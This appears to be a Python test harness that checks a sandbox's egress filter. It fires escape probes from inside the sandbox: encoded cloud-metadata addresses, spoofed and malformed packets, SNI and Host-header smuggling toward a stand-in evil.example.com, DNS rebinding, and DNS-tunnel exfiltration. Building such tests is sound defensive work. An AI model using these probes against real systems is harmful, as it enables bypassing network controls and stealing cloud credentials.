"""Tries to get out of a sandbox. Run inside, as root: python3 escape.py PROBE...

Each probe does one thing that must not leave. What did leave is for the test
outside to see; here only what the probe itself noticed is printed, one line each.
"""
import fcntl
import os
import socket
import ssl
import struct
import sys
import time

PATIENCE = 3  # seconds that a probe waits for an answer it should not get

# The link, as every sandbox has it.
GUEST, GATEWAY = "198.19.77.2", "198.19.77.1"
GUEST6, GATEWAY6 = "fdc7:3b19:5e8d:4d::2", "fdc7:3b19:5e8d:4d::1"
MAC, GATEWAY_MAC = bytes.fromhex("02534d4f4c02"), bytes.fromhex("02534d4f4c01")
MARK = b"ESCAPED"  # what the witness outside looks for

PROBES = {}


def probe(f):
    PROBES[f.__name__.replace("_", "-")] = f
    return f


def tcp(host, port, data=MARK, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(PATIENCE)
        s.connect((host, port))
        s.sendall(data)
        return s.recv(4096)


def tcp6(host, port, data=MARK):
    return tcp(host, port, data, socket.AF_INET6)


def udp(host, port, data=MARK, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.settimeout(PATIENCE)
        s.connect((host, port))
        for _ in range(2):  # the second hears what ICMP said of the first
            s.send(data)
        return s.recv(4096)


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    n = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while n >> 16:
        n = (n & 0xFFFF) + (n >> 16)
    return ~n & 0xFFFF


def ping(host):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        s.settimeout(PATIENCE)
        body = struct.pack("!BBHHH", 8, 0, 0, 77, 1) + MARK
        body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
        s.sendto(body, (host, 0))
        return s.recv(4096)


def card():
    names = [n for n in os.listdir("/sys/class/net") if n != "lo" and os.path.exists("/sys/class/net/%s/device" % n)]
    return names[0]


def frames(*list_of_frames):
    """Sends frames as they are."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as s:
        s.bind((card(), 0))
        for f in list_of_frames:
            s.send(f)
    return b"sent"


def ether(payload, kind=0x0800, src=MAC, dst=GATEWAY_MAC):
    return dst + src + struct.pack("!H", kind) + payload


def ip4(dst, payload, src=GUEST, proto=17, options=b"", **field):
    f = dict(ihl=5 + len(options) // 4, length=20 + len(options) + len(payload), frag=0, ttl=64, version=4)
    f.update(field)
    head = struct.pack("!BBHHHBBH4s4s", f["version"] << 4 | f["ihl"], 0, f["length"], 1, f["frag"], f["ttl"], proto, 0,
                       socket.inet_aton(src), socket.inet_aton(dst)) + options
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def ip6(dst, payload, src=GUEST6, proto=17, **field):
    f = dict(length=len(payload))
    f.update(field)
    return struct.pack("!IHBB16s16s", 6 << 28, f["length"], proto, 64,
                       socket.inet_pton(socket.AF_INET6, src), socket.inet_pton(socket.AF_INET6, dst)) + payload


def datagram(port, data=MARK, sport=4444):
    return struct.pack("!HHHH", sport, port, 8 + len(data), 0) + data  # no checksum: allowed in IPv4


def datagram6(src, dst, port, data=MARK, sport=4444):
    d = struct.pack("!HHHH", sport, port, 8 + len(data), 0) + data
    pseudo = socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst) + struct.pack("!IHBB", len(d), 0, 0, 17)
    return d[:6] + struct.pack("!H", checksum(pseudo + d)) + d[8:]


def frame4(dst, port=80, **kw):
    return ether(ip4(dst, datagram(port), **kw))


def frame6(dst, port=80, src=GUEST6):
    return ether(ip6(dst, datagram6(src, dst, port), src=src), 0x86DD)


# --- Addresses, under the default policy ---------------------------------------

def address(name, host, port=80):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    PROBES[name] = lambda: tcp(host, port, family=family)


for n, h in {
    "metadata": "169.254.169.254",
    "metadata-hex": "0xa9fea9fe",
    "metadata-octal": "0251.0376.0251.0376",
    "metadata-short": "169.254.43518",
    "metadata-decimal": "2852039166",
    "metadata-mapped": "::ffff:169.254.169.254",
    "metadata-nat64": "64:ff9b::a9fe:a9fe",
    "metadata-6to4": "2002:a9fe:a9fe::1",
    "metadata-ipv6": "fd00:ec2::254",
    "metadata-alibaba": "100.100.100.200",
    "metadata-oracle": "192.0.0.192",
    "metadata-azure": "168.63.129.16",
    "metadata-ecs": "169.254.170.2",
    "private-10": "10.0.0.1",
    "private-172": "172.16.0.1",
    "private-192": "192.168.1.1",
    "private-ula": "fd00::1",
    "private-nat64": "64:ff9b::a00:1",
    "local-nat64": "64:ff9b:1::a00:1",
    "teredo": "2001:0:a00:1::1",
    "carrier-nat": "100.64.0.1",
    "reserved": "240.0.0.1",
    "documentation": "192.0.2.1",
    "gateway": GATEWAY,
    "gateway-ipv6": GATEWAY6,
    "link-neighbour": "198.19.77.3",
    "other-link": "198.19.77.6",
    "host-public": "93.184.200.1",
    "host-public-nat64": "64:ff9b::5db8:c801",
}.items():
    address(n, h)


@probe
def gateway_ssh():
    return tcp(GATEWAY, 22)


@probe
def gateway_udp():
    return udp(GATEWAY, 9)


@probe
def metadata_name():
    return tcp("metadata.google.internal", 80)


@probe
def private_name():
    return tcp("private.example.com", 80)  # its address is 10.0.0.1


@probe
def loopback_name():
    return tcp("loopback.example.com", 80)  # 127.0.0.1


@probe
def metadata_udp():
    return udp("169.254.169.254", 80)


@probe
def metadata_ping():
    return ping("169.254.169.254")


@probe
def private_ping():
    return ping("10.0.0.1")


@probe
def multicast_mdns():
    return udp("224.0.0.251", 5353)


@probe
def multicast_ssdp():
    return udp("239.255.255.250", 1900)


@probe
def multicast_ipv6():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_IF, socket.if_nametoindex(card()))
        s.settimeout(PATIENCE)
        s.sendto(MARK, ("ff02::fb", 5353))
        return s.recv(4096)


@probe
def broadcast():
    return frames(ether(ip4("255.255.255.255", datagram(67)), dst=b"\xff" * 6))


@probe
def link_local_ipv6():
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
        s.settimeout(PATIENCE)
        s.connect(("fe80::1", 80, 0, socket.if_nametoindex(card())))
        s.sendall(MARK)
        return s.recv(4096)


# --- Frames that a well-behaved kernel does not send ----------------------------

@probe
def frame_loopback():
    return frames(frame4("127.0.0.1"), frame4("127.0.0.53", 53))


@probe
def frame_loopback_ipv6():
    return frames(frame6("::1"))


@probe
def frame_mapped():
    return frames(frame6("::ffff:127.0.0.1"), frame6("::ffff:169.254.169.254"))


@probe
def frame_compatible():
    return frames(frame6("::127.0.0.1"), frame6("::a9fe:a9fe"))


@probe
def frame_zero():
    return frames(frame4("0.0.0.0"), frame6("::"))


@probe
def spoofed_source():
    return frames(frame4("93.184.1.1", src="10.9.9.9"), frame4("93.184.1.1", src="127.0.0.1"), frame4("93.184.1.1", src=GATEWAY))


@probe
def spoofed_source_ipv6():
    return frames(frame6("2606:4700::1", src="fd00::9"), frame6("2606:4700::1", src="::1"))


@probe
def spoofed_mac():
    return frames(ether(ip4("93.184.1.1", datagram(80)), src=bytes.fromhex("0253aaaaaa01")))


@probe
def other_mac():
    return frames(ether(ip4("93.184.1.1", datagram(80)), dst=bytes.fromhex("0253aaaaaa01")))


@probe
def source_route():
    # Loose source routing (RFC 791 section 3.1) by way of the metadata address.
    option = bytes([131, 7, 4]) + socket.inet_aton("169.254.169.254") + b"\0"
    return frames(ether(ip4("93.184.1.1", datagram(80), options=option)))


@probe
def routing_header():
    # Type 0 (RFC 5095 abolished it) by way of ::1.
    inner = datagram6(GUEST6, "::1", 80)
    header = struct.pack("!BBBBI", 17, 2, 0, 1, 0) + socket.inet_pton(socket.AF_INET6, "::1")
    return frames(ether(ip6("2606:4700::1", header + inner, proto=43), 0x86DD))


@probe
def tunnels():
    inner = ip4("169.254.169.254", datagram(80))
    inner6 = ip6("::1", datagram6(GUEST6, "::1", 80))
    return frames(*[ether(ip4("93.184.1.1", b, proto=p)) for p, b in
                    ((4, inner), (41, inner6), (47, b"\0\0\x08\0" + inner), (50, b"\0" * 16), (132, b"\0" * 16))])


@probe
def malformed():
    whole = ip4("93.184.1.1", datagram(80))
    return frames(
        ether(whole[:12]), ether(whole[:20]), ether(whole[:24]),
        ether(ip4("93.184.1.1", datagram(80), ihl=4)), ether(ip4("93.184.1.1", datagram(80), ihl=15)),
        ether(ip4("93.184.1.1", datagram(80), length=4000)), ether(ip4("93.184.1.1", datagram(80), version=6)),
        ether(ip6("2606:4700::1", b"", length=60000), 0x86DD), b"\0" * 14)


@probe
def fragments():
    # Two that overlap, and one that ends beyond 65535 (the "ping of death").
    whole = datagram(80, MARK * 300)
    return frames(
        ether(ip4("93.184.1.1", whole[:800], frag=0x2000)), ether(ip4("93.184.1.1", whole[400:], frag=50)),
        ether(ip4("93.184.1.1", MARK * 100, frag=0x1FFF)))


@probe
def oversized():
    # More than the link carries; the kernel may refuse, which is well too.
    return frames(ether(ip4("169.254.169.254", datagram(80, MARK * 9300), length=65535)))


@probe
def other_protocols():
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x800, 6, 4, 2, MAC, socket.inet_aton(GATEWAY), GATEWAY_MAC, socket.inet_aton(GATEWAY))
    vlan = struct.pack("!HH", 7, 0x0800) + ip4("169.254.169.254", datagram(80))
    return frames(ether(arp, 0x0806), ether(vlan, 0x8100), ether(b"\0" * 64, 0x88CC), ether(b"\x11\x09" + b"\0" * 60, 0x8863))


@probe
def redirect():
    # ICMP redirect (RFC 792) that claims the metadata address is behind us.
    inner = ip4("93.184.1.1", datagram(80))[:28]
    body = struct.pack("!BBH4s", 5, 1, 0, socket.inet_aton("169.254.169.254")) + inner
    body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
    return frames(ether(ip4(GATEWAY, body, proto=1)))


# --- Names, under a policy that allows ok.example.com alone ---------------------

def resolve(name):
    return socket.getaddrinfo(name, None, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]


def request(host, line="GET /ESCAPED HTTP/1.1", more=""):
    return ("%s\r\nHost: %s\r\n%sConnection: close\r\n\r\n" % (line, host, more)).encode()


def exchange(host, data, port=80):
    return tcp(host, port, data)


def hello(sni=None, ech=False):
    """A client hello, made by hand so that it can be what no library would send."""
    ext = b""
    if sni is not None:
        n = sni.encode()
        entry = b"\0" + struct.pack("!H", len(n)) + n
        ext += struct.pack("!HH", 0, len(entry) + 2) + struct.pack("!H", len(entry)) + entry
    ext += struct.pack("!HHBH", 43, 3, 2, 0x0304)  # supported versions: 1.3
    ext += struct.pack("!HHHH", 10, 4, 2, 29) + struct.pack("!HHHH", 13, 4, 2, 0x0804)
    ext += struct.pack("!HHHHH", 51, 38, 36, 29, 32) + b"\x01" * 32
    if ech:  # draft-ietf-tls-esni: outer, HKDF-SHA256, AES-128-GCM
        body = b"\0" + struct.pack("!HHBH", 1, 1, 7, 32) + b"\x02" * 32 + struct.pack("!H", 64) + b"\x03" * 64
        ext += struct.pack("!HH", 0xFE0D, len(body)) + body
    body = b"\x03\x03" + MARK.ljust(32, b"\x05") + b"\0" + struct.pack("!HHBB", 2, 0x1301, 1, 0) + struct.pack("!H", len(ext)) + ext
    shake = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(shake)) + shake


@probe
def bare_address_with_host():
    return exchange("93.184.9.9", request("ok.example.com"))


@probe
def bare_address_with_sni():
    return exchange("93.184.9.9", hello("ok.example.com"), 443)


@probe
def sni_of_another():
    return exchange(resolve("ok.example.com"), hello("evil.example.com"), 443)


@probe
def sni_in_pieces():
    h = hello("evil.example.com")
    with socket.create_connection((resolve("ok.example.com"), 443), PATIENCE) as s:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for i in range(0, len(h), 9):
            s.send(h[i:i + 9])
        return s.recv(4096)


@probe
def sni_in_records():
    # The same in TLS records of 20 bytes each (RFC 8446 section 5.1 allows it).
    body = hello("evil.example.com")[5:]
    parts = [body[i:i + 20] for i in range(0, len(body), 20)]
    return exchange(resolve("ok.example.com"), b"".join(b"\x16\x03\x01" + struct.pack("!H", len(p)) + p for p in parts), 443)


@probe
def sni_missing():
    return exchange(resolve("ok.example.com"), hello(None), 443)


@probe
def sni_address():
    return exchange(resolve("ok.example.com"), hello("169.254.169.254"), 443)


@probe
def ech():
    return exchange(resolve("ok.example.com"), hello("ok.example.com", ech=True), 443)


@probe
def host_of_another():
    return exchange(resolve("ok.example.com"), request("evil.example.com"))


@probe
def host_twice():
    return exchange(resolve("ok.example.com"), request("ok.example.com", more="Host: evil.example.com\r\n"))


@probe
def host_folded():
    return exchange(resolve("ok.example.com"), b"GET /ESCAPED HTTP/1.1\r\nHost: ok.example.com\r\n Host: evil.example.com\r\n\r\n")


@probe
def host_absolute():
    return exchange(resolve("ok.example.com"), request("ok.example.com", "GET http://evil.example.com/ESCAPED HTTP/1.1"))


@probe
def connect_method():
    return exchange(resolve("ok.example.com"), request("evil.example.com:443", "CONNECT evil.example.com:443 HTTP/1.1"))


@probe
def second_request():
    first = b"GET /first HTTP/1.1\r\nHost: ok.example.com\r\n\r\n"
    with socket.create_connection((resolve("ok.example.com"), 80), PATIENCE) as s:
        s.sendall(first)
        s.recv(4096)
        s.sendall(request("evil.example.com"))
        return s.recv(4096)


@probe
def no_protocol():
    return exchange(resolve("ok.example.com"), b"SSH-2.0-" + MARK + b"\r\n", 443)


@probe
def half_a_hello():
    return exchange(resolve("ok.example.com"), hello("ok.example.com")[:40], 443)


@probe
def other_port():
    return exchange(resolve("ok.example.com"), request("ok.example.com"), 8080)


@probe
def below_the_name():
    return exchange("x.ok.example.com", request("ok.example.com"))


@probe
def quic():
    return udp(resolve("ok.example.com"), 443, b"\xc0\0\0\0\x01" + MARK * 200)


@probe
def rebinding():
    # Its name servers answer with a public address first, then with the metadata
    # service's. Both the guest's and the host's look-ups must be safe.
    for _ in range(3):
        try:
            exchange("rebind.example.com", request("rebind.example.com"))
        except OSError as e:
            print("rebinding: %s" % e)
        time.sleep(1.5)  # longer than its answers live
    return b""


def question(name, kind=16):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return struct.pack("!HHHHHH", 77, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def answered(reply):
    code = reply[3] & 15
    return ("rcode %d" % code).encode() if code else reply


@probe
def dns_tunnel():
    return answered(udp(GATEWAY, 53, question("ESCAPED.evil.example.com")))


@probe
def dns_tunnel_public():
    return answered(udp("8.8.8.8", 53, question("ESCAPED.evil.example.com")))


@probe
def dns_tunnel_tcp():
    q = question("ESCAPED.evil.example.com")
    return answered(tcp("8.8.8.8", 53, struct.pack("!H", len(q)) + q)[2:])


@probe
def dns_tunnel_below():
    return answered(udp(GATEWAY, 53, question("ESCAPED.ok.example.com")))


@probe
def dns_of_another_port():
    return udp("8.8.8.8", 5353, question("ESCAPED.ok.example.com"))


@probe
def dns_over_tls():
    return exchange("8.8.8.8", hello("ok.example.com"), 853)


@probe
def dns_over_https():
    return exchange("8.8.8.8", hello("dns.google"), 443)


@probe
def not_dns():
    return udp("93.184.9.9", 53, MARK * 20)


@probe
def public_udp():
    return udp("93.184.9.9", 80)


@probe
def public_ping():
    return ping("93.184.9.9")


# --- What must get out, so that the rest means something -------------------------

@probe
def control_tcp():
    return tcp("93.184.9.9", 80)


@probe
def control_udp():
    return udp("93.184.9.9", 80)


@probe
def control_name():
    return exchange("ok.example.com", request("ok.example.com"))


@probe
def control_tls():
    c = ssl.create_default_context()
    c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((resolve("ok.example.com"), 443), PATIENCE) as s:
        with c.wrap_socket(s, server_hostname="ok.example.com") as t:
            t.sendall(MARK)
            return t.recv(4096)


# --- Without a network -----------------------------------------------------------

@probe
def none_frames():
    # Bring the card up by hand, as root can.
    name = card()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        request = struct.pack("16sh14x", name.encode(), 0)
        flags = struct.unpack("16sh14x", fcntl.ioctl(s, 0x8913, request))[1]  # SIOCGIFFLAGS
        fcntl.ioctl(s, 0x8914, struct.pack("16sh14x", name.encode(), flags | 1))  # SIOCSIFFLAGS, IFF_UP
    return frames(frame4("93.184.9.9"), frame4("169.254.169.254"))


def main():
    for name in sys.argv[1:]:
        try:
            print("%s: got %r" % (name, PROBES[name]()[:80]))
        except (OSError, ssl.SSLError) as e:
            print("%s: %s: %s" % (name, type(e).__name__, e))


main()
